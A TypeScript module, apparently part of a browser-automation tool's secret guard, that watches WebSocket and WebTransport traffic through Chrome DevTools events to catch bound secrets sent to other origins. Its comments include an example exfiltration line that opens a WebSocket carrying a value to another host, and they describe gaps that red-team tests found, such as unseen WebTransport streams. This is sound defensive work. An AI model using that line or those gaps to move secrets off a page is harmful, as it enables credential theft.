/**
 * The secret guard's watch on WebSockets. Chromium holds no WebSocket for us: `Fetch` never
 * pauses a handshake and `Network.setBlockedURLs` does not apply to one (measured), so a page
 * can open `new WebSocket("wss://elsewhere/?v=" + value)` or send the value in a frame. What
 * can be done is done at once: the handshake's URL (`Network.webSocketCreated`, sent as the
 * page creates the socket) and every frame the page sends (`Network.webSocketFrameSent`) are
 * read by the same finder as requests; when one carries a bound secret off its origins, it is
 * recorded (the acting call's result, or the next one's `sinceLastCall`) saying the value may
 * have been sent. The page is not ended for it: closing the tab, or taking it to
 * `about:blank`, let requests its frames and workers had paused go out unjudged (measured
 * with the red team's secret_exfil: up to five more reached the other origin). A socket to one of the secret's origins (`ws:` for `http:`, `wss:` for `https:`) is
 * its own business.
 *
 * A WebTransport session's URL (`Network.webTransportCreated`) is read the same way.
 *
 * CDP: `Network.webSocketCreated`, `Network.webSocketFrameSent`, `Network.webSocketClosed`,
 * `Network.webTransportCreated` (Network is enabled on every page target, `cdp/page_setup.ts`).
 *
 * @module
 */
import type { CdpSession } from "../../cdp/connection.ts";
import type { BlockedNavigation } from "./nav_guard_types.ts";
import type { SecretLeakFinder } from "./secret_leaks.ts";

/** Sockets remembered per target at most (their URLs, for their frames). */
const SOCKETS_KEPT = 256;

/** What {@link watchWebSockets} is given. */
export interface WebSocketWatch {
  /** The bound-secret finder (`secretLeakFinder`). */
  find: SecretLeakFinder;
  /** The frame a stop is recorded against (the tab's main frame, or the iframe's target). */
  frameId: string;
  /** Records the stop (for the acting call's result, or the next one's `sinceLastCall`). */
  block: (b: BlockedNavigation) => void;
}

/** Watches the WebSockets and WebTransport sessions of one target's pages (see the module doc). */
export function watchWebSockets(session: CdpSession, w: WebSocketWatch): void {
  const urls = new Map<string, string>();
  const check = (url: string, sent: string, how: NonNullable<BlockedNavigation["webSocket"]>) => {
    const secret = w.find(url, sent);
    if (secret === undefined) return;
    w.block({
      url,
      reason: "site",
      frameId: w.frameId,
      secret,
      request: true,
      webSocket: how,
      why: `it carries the secret ${secret}, bound to other origins`,
    });
  };
  session.on("Network.webSocketCreated", (e) => {
    if (urls.size >= SOCKETS_KEPT) urls.delete(urls.keys().next().value!);
    urls.set(e.requestId, e.url);
    check(e.url, "", "handshake");
  });
  session.on("Network.webSocketFrameSent", (e) => {
    const url = urls.get(e.requestId);
    if (url === undefined) return;
    // Opcode 1: text; 2: binary, given in base64.
    const { opcode, payloadData } = e.response;
    check(url, opcode === 2 ? binaryText(payloadData) : payloadData, "frame");
  });
  session.on("Network.webSocketClosed", (e) => urls.delete(e.requestId));
  // WebTransport (HTTP/3) is held by no switch or guard either (red team s15 #3: no
  // --disable-features or Blink flag, nor --disable-quic, stops it; measured), and CDP shows its
  // URL only: what it sends on its streams and datagrams is not seen.
  session.on("Network.webTransportCreated", (e) => check(e.url, "", "webtransport"));
}

/** A binary frame's bytes (base64) as the finder reads a body (UTF-8, lossy). */
function binaryText(base64: string): string {
  try {
    return new TextDecoder().decode(Uint8Array.from(atob(base64), (c) => c.charCodeAt(0)));
  } catch {
    return "";
  }
}
